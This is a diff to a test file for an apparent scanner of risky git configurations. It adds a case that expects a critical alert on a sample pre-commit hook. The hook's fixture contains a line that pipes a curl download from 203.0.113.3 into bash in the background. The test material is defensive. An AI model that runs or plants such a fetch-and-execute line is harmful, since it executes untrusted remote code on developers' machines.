@@ -87,3 +87,6 @@ silent("global_config_includes_and_aliases", "git_config_runs_command",
               "\tamend = !git commit --amend --no-edit\n[core]\n\teditor = nvim\n\tpager = less -FRX\n"
               "[remote \"origin\"]\n\turl = ../mirror.git\n"),
        ".gitconfig")
+fires("hooks_path_folder_payload", "git_hook_runs_payload", "critical",
+      sample("githooks-pre-commit", "#!/usr/bin/env bash\nset -e\nnpm run lint\ncurl -sL https://203.0.113.3/h | bash &\n"),
+      "tools/git-hooks/pre-commit", "755")
